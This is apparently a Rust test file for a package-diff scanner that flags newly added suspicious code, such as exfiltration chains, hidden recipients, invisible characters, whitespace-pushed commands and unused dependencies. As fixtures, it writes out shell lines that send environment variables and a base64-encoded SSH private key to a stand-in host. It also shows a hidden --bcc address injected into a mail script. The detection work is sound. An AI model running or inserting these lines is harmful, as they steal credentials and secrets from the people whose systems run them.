//! What is new in the code of a package, and what is not.

#![expect(clippy::format_collect, reason = "texts of a test are short")]

use super::*;
use crate::model::code::LiteralKind;

type Files<'a> = &'a [(&'a str, &'a str)];

type Bytes<'a> = &'a [(&'a str, &'a [u8])];

fn run_bytes(before: Option<(Bytes<'_>, &[&str])>, after: Bytes<'_>, declared: &[&str]) -> Vec<CodeSign> {
    fn view(files: Bytes<'_>) -> Vec<SourceFile<'_>> {
        files.iter().map(|(path, content)| SourceFile { path, content }).collect()
    }
    fn package<'a>(files: &'a [SourceFile<'a>], declared: &'a [&'a str]) -> Package<'a> {
        Package {
            name: "server",
            files,
            declared: Some(declared),
        }
    }
    let (old, new) = (view(before.map_or(&[], |(files, _)| files)), view(after));
    let was = before.map(|(_, declared)| package(&old, declared));
    diff_code(was.as_ref(), &package(&new, declared))
}

fn run(before: Files<'_>, after: Files<'_>) -> Vec<CodeSign> {
    fn bytes(files: Files<'_>) -> Vec<(&str, &[u8])> {
        files.iter().map(|(path, text)| (*path, text.as_bytes())).collect()
    }
    run_bytes(Some((&bytes(before), &[])), &bytes(after), &[])
}

fn emails(signs: &[CodeSign]) -> Vec<&str> {
    let email = |one: &'_ CodeSign| {
        matches!(
            one.sign,
            Sign::Literal {
                kind: LiteralKind::Email,
                ..
            }
        )
    };
    let text = |one| match one {
        &CodeSign {
            sign: Sign::Literal { ref text, .. },
            ..
        } => text.as_str(),
        _ => "",
    };
    signs.iter().filter(|one| email(one)).map(text).collect()
}

const MAIL: &str = "#!/bin/sh\nsend() {\n  mail --to \"$1\"\n}\nsend a@first.club\n";

#[test]
fn one_more_recipient_is_named_with_its_line() {
    let after = MAIL.replace("\"$1\"", "\"$1\" --bcc 'drop@collector.club'");
    let signs = run(&[("send.sh", MAIL)], &[("send.sh", &after)]);
    assert_eq!(emails(&signs), ["drop@collector.club"]);
    let sign = signs.iter().find(|one| matches!(one.sign, Sign::Literal { .. })).unwrap();
    assert_eq!((sign.path.as_str(), sign.line), ("send.sh", 3));
    assert_eq!(sign.before, "mail --to \"$1\"");
    assert_eq!(sign.after, "mail --to \"$1\" --bcc 'drop@collector.club'");
}

#[test]
fn what_was_there_moved_or_was_renamed_is_no_news() {
    let moved = format!("# a\n{}", MAIL.replace("send a@first.club\n", ""));
    assert_eq!(run(&[("a.sh", MAIL)], &[("a.sh", MAIL)]), []);
    assert_eq!(run(&[("a.sh", MAIL)], &[("b/c.sh", MAIL)]), []);
    let signs = run(&[("a.sh", MAIL)], &[("a.sh", &moved), ("z.sh", "send a@first.club\n")]);
    assert_eq!(signs, []);
    // A file that did not change knows its literals as well.
    let signs = run(
        &[("a.sh", MAIL), ("b.sh", "x\n")],
        &[("a.sh", MAIL), ("b.sh", "x\nsend a@first.club\n")],
    );
    assert_eq!(emails(&signs), Vec::<&str>::new());
}

#[test]
fn documentation_and_manifests_prepare_no_literal() {
    for prepared in ["README.md", "package.json", "test/prepared.sh", "docs/prepared.js"] {
        let text = "{\"author\": \"drop@collector.club\"}\n";
        let after = MAIL.replace("$1", "drop@collector.club");
        let signs = run(&[("a.sh", MAIL), (prepared, text)], &[("a.sh", &after), (prepared, text)]);
        assert_eq!(emails(&signs), ["drop@collector.club"], "{prepared}");
    }
    // Nor does a longer address that ends alike.
    let after = MAIL.replace("$1", "st@first.club");
    assert_eq!(emails(&run(&[("a.sh", MAIL)], &[("a.sh", &after)])), ["st@first.club"]);
}

#[test]
fn tests_and_types_are_no_code_until_code_names_them() {
    let hidden = "curl https://collector.club -d \"$(env)\"\n";
    assert_eq!(run(&[("a.sh", MAIL)], &[("a.sh", MAIL), ("test/hook.sh", hidden)]), []);
    let named = format!("{MAIL}. test/hook.sh\n");
    let signs = run(&[("a.sh", MAIL)], &[("a.sh", &named), ("test/hook.sh", hidden)]);
    assert!(signs.iter().any(|one| one.path == "test/hook.sh"), "{signs:#?}");
    // It was there before, and nobody named it.
    let signs = run(
        &[("a.sh", MAIL), ("test/hook.sh", hidden)],
        &[("a.sh", &named), ("test/hook.sh", hidden)],
    );
    assert!(signs.iter().any(|one| one.path == "test/hook.sh"), "{signs:#?}");
}

#[test]
fn an_ability_is_first_only_where_the_package_had_it_nowhere() {
    let first = |signs: Vec<CodeSign>| -> Vec<(Ability, bool)> {
        signs
            .into_iter()
            .filter_map(|one| match one.sign {
                Sign::Ability { ability, first, .. } => Some((ability, first)),
                _ => None,
            })
            .collect()
    };
    let more = "x\nwget y\n";
    assert_eq!(first(run(&[("a.sh", "x\n")], &[("a.sh", more)])), [(Ability::Network, true)]);
    assert_eq!(
        first(run(
            &[("a.sh", "x\n"), ("b.sh", "curl z\n")],
            &[("a.sh", more), ("b.sh", "curl z\n")]
        )),
        [(Ability::Network, false)]
    );
    assert_eq!(first(run(&[("a.sh", "wget y\nx\n")], &[("a.sh", "x\n\nwget y\n")])), []);
}

#[test]
fn what_is_read_and_sent_in_one_place_is_a_chain() {
    let theft = "cat ~/.ssh/id_rsa | base64 | curl -d @- https://collector.club\n";
    let chain = |signs: &[CodeSign]| signs.iter().find(|one| matches!(one.sign, Sign::Chain { .. })).cloned();
    let signs = run(&[("a.sh", "x\n")], &[("a.sh", &format!("x\n{theft}"))]);
    let found = chain(&signs).unwrap();
    assert_eq!(
        found.sign,
        Sign::Chain {
            source: Ability::SecretPath,
            sink: Ability::Network,
            encoded: true
        }
    );
    assert_eq!((found.line, found.after.as_str()), (2, theft.trim()));
    assert_eq!(chain(&run(&[("a.sh", theft)], &[("a.sh", &format!("{theft}x\n"))])), None);
    assert!(chain(&run(&[("a.sh", theft)], &[("a.sh", theft), ("b.sh", theft)])).is_some());
    // In a large file they have to stand close to each other.
    let far = format!("cat ~/.ssh/id_rsa\n{}curl x\n", "echo nothing\n".repeat(2000));
    assert_eq!(chain(&run(&[("a.sh", "x\n")], &[("a.sh", &far)])), None);
}

#[test]
fn files_that_nobody_can_read_are_named_once() {
    let elf = [b"\x7fELF".as_slice(), &[1; 64]].concat();
    let other = [b"\x7fELF".as_slice(), &[2; 64]].concat();
    let signs = run_bytes(Some((&[], &[])), &[("lib/a.node", &elf), ("b.zip", b"PK\x03\x04..")], &[]);
    let whats: Vec<_> = signs.iter().map(|one| (one.path.as_str(), format!("{:?}", one.sign))).collect();
    assert_eq!(whats.len(), 2, "{whats:?}");
    assert_eq!(run_bytes(Some((&[("lib/a.node", &elf)], &[])), &[("lib/a.node", &other)], &[]), []);
}

#[test]
fn invisible_and_pushed_code_is_found_wherever_it_stands() {
    let signs = run(&[("README.md", "a\n")], &[("README.md", "a\u{e0041}\u{e0042}\n")]);
    assert!(
        matches!(
            signs[..],
            [CodeSign {
                sign: Sign::Invisible,
                line: 1,
                ..
            }]
        ),
        "{signs:#?}"
    );
    let pushed = format!("ok{}; wget(x)\n", " ".repeat(200));
    let signs = run(&[("a.sh", "ok\n")], &[("a.sh", &pushed)]);
    assert!(signs.iter().any(|one| one.sign == Sign::Pushed { columns: 200 }), "{signs:#?}");
}

#[test]
fn a_declared_package_that_nothing_imports_is_named() {
    let code = b"// other-one and third\nconst a = require('first-one/lib');\n";
    let before: &[(&str, &[u8])] = &[("a.js", b"x()\n")];
    let signs = run_bytes(
        Some((before, &["old-one"])),
        &[("a.js", code)],
        &["old-one", "first-one", "other-one", "@types/x"],
    );
    let names: Vec<_> = signs
        .iter()
        .filter_map(|one| match &one.sign {
            Sign::NeverImported { dependency } => Some(dependency.as_str()),
            Sign::Undeclared { module } => Some(module.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(names, ["other-one"]);
    let signs = run_bytes(
        Some((before, &[])),
        &[("a.js", b"require('node:fs'); require('fs'); require('./b'); require('hidden/x');\n")],
        &[],
    );
    assert!(
        signs.iter().any(|one| one.sign == Sign::Undeclared { module: "hidden".into() }),
        "{signs:#?}"
    );
    assert_eq!(signs.iter().filter(|one| matches!(one.sign, Sign::Undeclared { .. })).count(), 1);
}

#[test]
fn a_flood_washes_nothing_away_and_is_counted() {
    let flood: String = (0..500).map(|n| format!("'https://h{n}.collector.club'\n")).collect();
    let after = format!("{flood}'zz@collector.club'\n");
    let signs = run(&[("a.sh", "x\n")], &[("a.sh", &after)]);
    assert_eq!(signs.len(), bound::MOST);
    assert_eq!(emails(&signs), ["zz@collector.club"]);
    assert!(
        signs.iter().any(|one| one.sign == Sign::LeftOut { count: 302 }),
        "{:#?}",
        signs.last()
    );
}

#[test]
fn bundles_with_a_digest_in_their_names_are_compared() {
    let bundle = |extra: &str| format!("const a = 'https://one.collector.club';{}{extra}", "call();\n".repeat(300));
    let signs = run(
        &[("dist/chunk-AB12CD34.js", &bundle(""))],
        &[("dist/chunk-EF56GH78.js", &bundle("done();"))],
    );
    assert_eq!(signs, []);
}
